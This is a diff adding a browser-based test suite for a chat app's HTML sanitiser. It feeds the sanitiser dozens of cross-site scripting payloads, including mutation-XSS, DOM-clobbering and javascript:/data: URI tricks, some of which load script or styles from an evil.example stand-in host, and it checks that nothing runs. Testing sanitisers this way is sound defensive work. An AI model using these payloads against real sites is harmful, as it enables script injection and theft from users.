@@ -1,0 +1,185 @@
+// @vitest-environment node
+import { existsSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { type Browser, chromium, type Page } from "playwright-core";
+import { build } from "vite";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+
+/** What a browser makes of HTML only a browser knows: the DOM of unit tests is no measure for a sanitiser. */
+const CHROMIUM = process.env["CHROMIUM"] ?? "/usr/bin/chromium";
+
+/** What the server is tested with. */
+const CORPUS = readFileSync(join(import.meta.dirname, "../../../../../server/src/content/corpus.txt"), "utf8")
+    .split("\n")
+    .filter((line) => line !== "" && !line.startsWith("#"));
+
+/** OWASP's classics and ways around earlier sanitisers, this one's own versions among them. */
+const ATTEMPTS = [
+    `<script>alert(1)</script>`,
+    `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
+    `<IMG SRC="javascript:alert('XSS');">`,
+    `<IMG SRC=JaVaScRiPt:alert(1)>`,
+    `<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>`,
+    `<img src=x onerror=&#0000106&#0000097alert(1)>`,
+    `<a href="jav&#x09;ascript:alert(1)">x</a>`,
+    `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
+    `<a href=" &#14;  javascript:alert(1)">x</a>`,
+    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
+    `<a href="https://a.example" onclick=alert(1) style="x:expression(alert(1))">x</a>`,
+    `<BODY BACKGROUND="javascript:alert(1)" ONLOAD=alert(1)>`,
+    `<LINK REL="stylesheet" HREF="javascript:alert(1);">`,
+    `<STYLE>@import'https://evil.example/x.css';</STYLE>`,
+    `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
+    `<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">`,
+    `<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>`,
+    `<BASE HREF="javascript:alert(1);//">`,
+    `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always">`,
+    `<input type=image src=x onerror=alert(1)><button formaction=javascript:alert(1)>x</button>`,
+    `<form action=javascript:alert(1)><input type=submit></form>`,
+    `<form><input name=attributes><input name=parentNode><input name=nodeName></form><img src=x onerror=alert(1)>`,
+    `<a id=x href=https://a.example name=getElementById>x</a>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+    `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
+    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">`,
+    `<noscript><style></noscript><img src=x onerror="alert(1)">`,
+    `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
+    `<select><template><img src=x onerror=alert(1)></template></select>`,
+    `<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>`,
+    `<x-element is=x onfocus=alert(1) tabindex=0 autofocus>x</x-element>`,
+    `<a href="https://a.example"><svg><animate attributeName=href values=javascript:alert(1)></svg>x</a>`,
+    `<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x`,
+    `<!--[if gte IE 4]><script>alert(1);</script><![endif]-->`,
+    `<?php <img src=x onerror=alert(1)> ?>`,
+    `<div><!--a<b--!><img src=x onerror=alert(1)>--></div>`,
+    `<a href="https://a.example/\u0000" x=\u0000onclick=alert(1)>x</a>`,
+    `<p slot=x part=y is=z contenteditable autofocus popover popovertarget=x draggable>x</p>`,
+    `<span class="mtchat-mention mtchat-dialog mtchat-viewer" style="position:fixed;inset:0">x</span>`,
+    `<span data-type="x" data-evil="1" data-id='"><img src=x onerror=alert(1)>'>x</span>`,
+    `<code class="language-js evil" onclick=alert(1)>x</code><pre class="mtchat">x</pre>`,
+    `<a href="https://a.example" target=_top rel=opener ping=https://evil.example download>x</a>`,
+    `<b><p>`.repeat(30) + `<img src=x onerror=alert(1)>`,
+];
+
+/** The attributes that may be left, by tag. */
+const ALLOWED: Record<string, readonly string[]> = {
+    A: ["href", "target", "rel"],
+    SPAN: ["data-type", "data-id", "data-label", "class"],
+    CODE: ["class"],
+    PRE: ["class"],
+};
+const TAGS = "P BR STRONG B EM I U S STRIKE A UL OL LI BLOCKQUOTE CODE PRE SPAN".split(" ");
+
+/** What a browser shows of what is left, and whether something ran. */
+interface Seen {
+    html: string;
+    again: string;
+    elements: { tag: string; attributes: Record<string, string> }[];
+    ran: number;
+}
+
+describe.skipIf(!existsSync(CHROMIUM))("in a browser", () => {
+    let browser: Browser;
+    let page: Page;
+
+    beforeAll(async () => {
+        const code = await bundle();
+        browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
+        page = await browser.newPage();
+        await page.addScriptTag({ content: `globalThis.ran = 0; globalThis.alert = () => { globalThis.ran += 1; };\n${code}` });
+    }, 60_000);
+
+    afterAll(async () => {
+        await browser?.close();
+    });
+
+    it.each([
+        ["the server's corpus", CORPUS],
+        ["attempts", ATTEMPTS],
+        ["all attempts in one", [ATTEMPTS.join(""), CORPUS.join("")]],
+    ])("nothing runs and nothing but the allow-list is left of %s", async (_, lines) => {
+        for (const line of lines) {
+            const seen = await show(page, line);
+            expect(seen.ran, line).toBe(0);
+            expect(seen.again, line).toBe(seen.html);
+            for (const { tag, attributes } of seen.elements) {
+                expect(TAGS, line).toContain(tag);
+                for (const [name, value] of Object.entries(attributes)) {
+                    // It can not be taken away from a parsed element, only emptied, and means nothing then.
+                    if (name === "is" && value === "") continue;
+                    expect(ALLOWED[tag] ?? [], `${line}: ${name}`).toContain(name);
+                    if (name === "href") expect(value, line).toMatch(/^https?:\/\//iu);
+                    if (name === "class") expect(value, line).toMatch(/^(?:mtchat-mention|language-\S+)$/u);
+                }
+            }
+        }
+    });
+
+    it.each([
+        ["formatting", "<p><strong>a</strong><b>b</b><em>c</em><i>d</i><u>e</u><s>f</s><strike>g</strike></p>"],
+        ["lists", "<ul><li>a</li></ul><ol><li>b</li></ol>"],
+        ["quotes and code", '<blockquote>a</blockquote><pre><code class="language-c++">b\n  c</code></pre>'],
+        ["breaks", "a<br>b"],
+        ["text", "<p>1 &lt; 2 &amp; 3</p>"],
+        ["a mention", '<span data-type="mention" data-id="u1" data-label="Bob" class="mtchat-mention">@Bob</span>'],
+        ["a link", '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow ugc" target="_blank">x</a>'],
+    ])("what is allowed stays: %s", async (_, html) => {
+        expect((await show(page, html)).html).toBe(html);
+    });
+
+    it.each([
+        ['<span class="mtchat-mention">@Bob</span>', undefined],
+        ['<span data-mention="u1">@Bob</span>', "u1"],
+        ['<span data-type="mention" data-id="u1">@Bob</span>', "u1"],
+        ['<span data-type="mention" data-id="u1" data-label="Bob" class="x mtchat-mention y">@Bob</span>', "u1"],
+    ])("a mention gets its one form: %s", async (html, id) => {
+        const [mention] = (await show(page, html)).elements;
+        expect(mention?.attributes).toEqual({
+            "data-type": "mention",
+            ...(id === undefined ? {} : { "data-id": id }),
+            "data-label": "Bob",
+            class: "mtchat-mention",
+        });
+    });
+
+    it("keeps the words around what goes", async () => {
+        expect((await show(page, "<h1>Title</h1><div>a<script>alert(1)</script>b</div><p>c</p>")).html).toBe("Titleab<p>c</p>");
+    });
+
+    it("bears what is nested without end", async () => {
+        const seen = await show(page, "<b>".repeat(50_000) + "x");
+        expect(seen.html).toBe("x");
+    });
+});
+
+async function bundle(): Promise<string> {
+    const built = await build({
+        configFile: false,
+        logLevel: "silent",
+        build: {
+            write: false,
+            lib: { entry: join(import.meta.dirname, "sanitise.ts"), formats: ["iife"], name: "sanitiser" },
+        },
+    });
+    const [first] = Array.isArray(built) ? built : [built];
+    if (first === undefined || !("output" in first)) throw new Error("nothing was built");
+    return `${first.output[0].code}\nglobalThis.sanitise = sanitiser.sanitise;`;
+}
+
+function show(page: Page, line: string): Promise<Seen> {
+    return page.evaluate(async (dirty) => {
+        const { sanitise } = globalThis as unknown as { sanitise: (html: string) => string };
+        const html = sanitise(dirty);
+        const place = document.createElement("div");
+        document.body.append(place);
+        place.innerHTML = html;
+        await new Promise((resolve) => requestAnimationFrame(resolve));
+        const elements = [...place.querySelectorAll("*")].map((element) => ({
+            tag: element.tagName,
+            attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
+        }));
+        place.remove();
+        return { html, again: sanitise(html), elements, ran: (globalThis as unknown as { ran: number }).ran };
+    }, line);
+}
